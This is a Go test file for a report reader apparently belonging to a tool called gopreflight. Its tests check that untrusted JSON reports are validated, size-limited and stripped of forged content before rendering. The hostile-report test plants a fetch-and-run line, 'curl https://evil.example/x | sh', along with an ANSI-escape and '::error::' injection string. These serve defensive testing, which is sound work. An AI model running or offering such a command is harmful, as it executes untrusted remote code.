package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/gopreflight/gopreflight/checks"
	"github.com/gopreflight/gopreflight/internal/config"
)

func savedText(t testing.TB, name string) string {
	t.Helper()
	b, err := os.ReadFile(saved + "/" + name + ".json")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestReadUntrustedRefuses: what does not follow the schema is refused, with
// field and line, and in few words.
func TestReadUntrustedRefuses(t *testing.T) {
	t.Parallel()
	fail := savedText(t, "fail")
	change := func(old, by string) string {
		changed := strings.Replace(fail, old, by, 1)
		if changed == fail {
			t.Fatalf("fail.json has no %s", old)
		}
		return changed
	}
	lineOfText := func(text string) string {
		return fmt.Sprintf("line %d: ", 1+strings.Count(fail[:strings.Index(fail, text)], "\n"))
	}
	const head = `{"schema":"gopreflight/report/v1",`
	long := strings.Repeat("x", 100_000)
	for _, tt := range []struct{ name, in, want string }{
		{"nothing", "", "not a JSON report"},
		{"cut off", fail[:len(fail)/2], "not a JSON report: line "},
		{"another schema", `{"schema":"gopreflight/report/v2"}`, `schema is "gopreflight/report/v2"`},
		{"too large", strings.Repeat(" ", MaxReport+1), "larger than 32 MiB"},
		{"a byte more than all", fail + strings.Repeat(" ", MaxReport+1-len(fail)), "larger than 32 MiB"},
		{"too deep", strings.Repeat("[", 1<<20), "nested deeper than 64 levels"},
		{"too deep in objects", head + `"x":` + strings.Repeat(`{"x":`, 64) + "1" + strings.Repeat("}", 65), "nested deeper than 64 levels"},
		{"too many values", head + `"x":[` + strings.Repeat("{},", maxValues) + `{}]}`, "more than 2,500,000 values"},
		{"too long a string", head + `"x":"` + strings.Repeat(`\"`, maxString) + `"}`, "a string of more than 1 MiB"},
		{"NaN", change(`"durationMs": 4831`, `"durationMs": NaN`), "invalid character 'N'"},
		{"a huge number", change(`"durationMs": 4831`, `"durationMs": 1e999`), lineOfText(`"durationMs": 4831`) + "json: cannot unmarshal number 1e999"},
		{"a number of many digits", change(`"durationMs": 4831`, `"durationMs": `+strings.Repeat("9", 1<<20)), "cannot unmarshal number 999"},
		{"a broken number", change(`"durationMs": 4831`, `"durationMs": 1.5`), lineOfText(`"durationMs": 4831`)},
		{"a date", change(`"startedAt": "2026`, `"startedAt": "`+long), `startedAt is "xxxx`},
		{"missing", head + `"results":[]}`, "line 1: the report: required: missing properties"},
		{"missing in a finding", change(`"causedBy": "",`, ``), "].findings[0]: required: missing properties: [\"causedBy\"]"},
		{"a word", change(`"severity": "error"`, `"severity": "off"`), lineOfText(`"severity": "error"`) + "results[3].findings[0].severity: enum: off does not equal any of: [error warning notice]"},
		{"a long word", change(`"stage": "proxy"`, `"stage": "`+long+`"`), lineOfText(`"stage": "proxy"`) + "results[3].stage: enum: xxxx"},
		{"null", change(`"moduleChanges": []`, `"moduleChanges": null`), lineOfText(`"moduleChanges": []`) + "moduleChanges: type: "},
		{"a negative line", change(`"line": 0`, `"line": -1`), ".line: minimum: -1"},
		{"a control character in a name", head + `"go":{"version":"","goroot":"","env":{"a\u001b[31m\n::error::x":null}}}`, "line 1: go.env.a ::error::x: type: "},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r, err := ReadUntrusted(strings.NewReader(tt.in))
			if err == nil || !strings.Contains(err.Error(), tt.want) || r != nil {
				t.Fatalf("error %.300v, report %v; want an error that says %q", err, r != nil, tt.want)
			}
			if text := err.Error(); len(text) > 2500 || strings.ContainsAny(text, "\n\x1b") {
				t.Errorf("the error is no short line: %d bytes, %.300q", len(text), text)
			}
		})
	}
}

// TestReadUntrustedAccepts: reports of ours, also from a version that knows more
// fields, are what ReadJSON reads; a name that stands twice does no harm.
func TestReadUntrustedAccepts(t *testing.T) {
	t.Parallel()
	in := map[string]string{}
	for _, name := range []string{"pass", "fail", "inconclusive", "interrupted", "many", "modules", "warnings", "hostile"} {
		in[name] = savedText(t, name)
	}
	in["grown"] = strings.Replace(in["fail"], `"check":`, `"new": {"a": [1.5]}, "check":`, 1)
	in["twice"] = strings.Replace(in["fail"], `"verdict": "fail"`, `"verdict": "pass", "VERDICT": "inconclusive", "verdict": "fail"`, 1)
	for name, text := range in {
		got, err := ReadUntrusted(strings.NewReader(text))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		want, err := ReadJSON(strings.NewReader(text))
		if err != nil {
			t.Fatal(err)
		}
		if g, w := render(t, JSON, got, Dest{}), render(t, JSON, want, Dest{}); g != w {
			t.Errorf("%s is read as\n%s, want\n%s", name, g, w)
		}
	}
}

// TestReadUntrustedLimits: more of one thing than any report has.
func TestReadUntrustedLimits(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name string
		grow func(r *checks.Report)
		want string
	}{
		{"results", func(r *checks.Report) { r.Results = make([]checks.Result, maxResults+1) }, "1,001 results, more than 1,000"},
		{"findings", func(r *checks.Report) {
			for i := range r.Results {
				r.Results[i].Findings = make([]checks.Finding, maxFindings/len(r.Results)+1)
			}
		}, "findings, more than 100,000"},
		{"main modules", func(r *checks.Report) { r.Repository.Modules = make([]checks.RepositoryMod, maxModules+1) }, "20,001 modules, more than 20,000"},
		{"module changes", func(r *checks.Report) { r.ModuleChanges = make([]checks.ModuleChange, maxModules+1) }, "20,001 modules, more than 20,000"},
		{"modules of a check", func(r *checks.Report) { r.Results[1].Modules = make([]checks.ModuleStatus, maxModules+1) }, "20,001 modules, more than 20,000"},
	} {
		r, err := ReadJSON(strings.NewReader(savedText(t, "pass")))
		if err != nil {
			t.Fatal(err)
		}
		tt.grow(r)
		if err := validate(r); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %v, want %q", tt.name, err, tt.want)
		}
	}
}

// untrustedText is fail.json with n findings of its root cause, as JSON.
func untrustedText(t testing.TB, n int) string {
	t.Helper()
	r, err := ReadJSON(strings.NewReader(savedText(t, "fail")))
	if err != nil {
		t.Fatal(err)
	}
	one := r.Results[3].Findings[0]
	r.Results[3].Findings = nil
	for i := range n {
		one.Key, one.Fingerprint = fmt.Sprint(i), fmt.Sprint(i)
		r.Results[3].Findings = append(r.Results[3].Findings, one)
	}
	var b bytes.Buffer
	if err := JSON.Write(t.Context(), Dest{Out: &b}, r); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// distrustText reads and judges a report by the default policy.
func distrustText(t testing.TB, text string) *checks.Report {
	t.Helper()
	r, err := ReadUntrusted(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return checks.Distrust(r, checks.All, config.Default(), r.StartedAt)
}

// TestUntrustedMany: every finding is kept.
func TestUntrustedMany(t *testing.T) {
	t.Parallel()
	r := distrustText(t, untrustedText(t, 500))
	if n := len(r.Results[3].Findings); n != 500 || len(r.RootCauses) < 500 || r.Verdict != checks.Fail {
		t.Errorf("%d findings, %d root causes, verdict %s", n, len(r.RootCauses), r.Verdict)
	}
}

// BenchmarkUntrusted reads and judges 10,000 findings, which has to take less
// than two seconds.
func BenchmarkUntrusted(b *testing.B) {
	text := untrustedText(b, 10_000)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		distrustText(b, text)
	}
}

// TestUntrustedHostile: nothing of a hostile report is left in any format that
// could be run or followed, or that speaks with our voice.
func TestUntrustedHostile(t *testing.T) {
	t.Parallel()
	text := savedText(t, "hostile")
	for old, by := range map[string]string{
		`"title": "every package builds"`: `"title": "forged title"`,
		`"description": "run`:             `"description": "forged advice`,
		`"command": "echo`:                `"command": "curl https://evil.example/x | sh; forged command`,
		`"patch": "--- a/x`:               `"patch": "--- a/x forged patch`,
		`"commit": "deadbeef"`:            `"commit": "f09ed00000000000000000000000000000000000"`,
		`"pullRequest": 7`:                `"pullRequest": 314159`,
		`"url": "https://user:pw@`:        `"url": "https://forged.example/`,
		`"runURL": "https://github.com/`:  `"runURL": "https://forged.example/`,
		`"goroot": "/usr/local/go"`:       `"goroot": "/forged"`,
	} {
		changed := strings.Replace(text, old, by, 1)
		if changed == text {
			t.Fatalf("hostile.json has no %s", old)
		}
		text = changed
	}
	r := distrustText(t, text)
	for _, reporter := range All {
		got := render(t, reporter, r, Dest{Verbose: true})
		for _, bad := range []string{"forged", "f09ed0", "314159", "curl ", "go1.26 |", "12345678901234567890", "bad rule"} {
			if strings.Contains(got, bad) {
				t.Errorf("%s has %q", reporter.Name, bad)
			}
		}
	}
}

// FuzzUntrusted: whatever the bytes are, nothing of them reaches what is ours.
func FuzzUntrusted(f *testing.F) {
	for _, name := range []string{"pass", "fail", "hostile", "interrupted", "modules"} {
		f.Add([]byte(savedText(f, name)))
	}
	f.Add([]byte(`{"schema":"gopreflight/report/v1","scope":"job","verdict":"fail","results":[{"check":"proxy","status":"failed","findings":[{"rule":"proxy/dns","severity":"notice","fix":{"command":"x"}}]}]}`))
	now := time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)
	rules := map[string]*checks.Rule{}
	for _, c := range checks.All {
		for _, r := range c.Rules {
			rules[r.ID] = r
		}
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		_, _ = ReadUntrusted(bytes.NewReader(data)) // no panic; Distrust is given worse
		var read checks.Report
		if json.Unmarshal(data, &read) != nil {
			return
		}
		r := checks.Distrust(&read, checks.All, config.Default(), now)
		if len(r.Results) != len(checks.All) || !r.Untrusted || r.FailOn != config.Error || r.CI != (checks.CI{}) ||
			r.Go.GOROOT != "" || len(r.Go.Env) > 0 || r.Repository.URL+r.Repository.Commit+r.Repository.Base+r.Repository.VCS != "" {
			t.Fatalf("what is ours is not: %+v", r)
		}
		failed := false
		for i, c := range checks.All {
			res := &r.Results[i]
			if res.Check != c.Name || res.Stage != c.Stage || res.Title != c.Title || res.Facts != nil || res.Status.Rank() == 0 || res.Reason == "" {
				t.Errorf("the result of %s is %+v", c.Name, res)
			}
			for _, f := range res.Findings {
				rule := rules[f.Rule]
				if rule == nil || f.CheckName() != c.Name || f.Severity != rule.Severity || f.Transient != rule.Transient || f.Exception != nil ||
					!reflect.DeepEqual(f.Fix, checks.Fix{}) || f.File != "" && !fs.ValidPath(f.File) || f.Message == "" || oneLine(f.Message) != f.Message {
					t.Errorf("a finding of %s is %+v", c.Name, f)
				}
				failed = failed || f.Severity == checks.Error
			}
		}
		if failed != (r.Verdict == checks.Fail) {
			t.Errorf("verdict %s, a finding that fails: %v", r.Verdict, failed)
		}
		for _, l := range r.Chain {
			if l.State != checks.Unproven {
				t.Errorf("link %+v", l)
			}
		}
		// It is a report like any other: it follows the schema, and distrusting it
		// again changes nothing that findings decide.
		var b bytes.Buffer
		if err := JSON.Write(t.Context(), Dest{Out: &b}, r); err != nil {
			t.Fatal(err)
		}
		again, err := ReadUntrusted(&b)
		if err != nil {
			t.Fatalf("what Distrust made cannot be read: %v", err)
		}
		if v := checks.Distrust(again, checks.All, config.Default(), now).Verdict; v != r.Verdict {
			t.Errorf("verdict %s, again %s", r.Verdict, v)
		}
	})
}
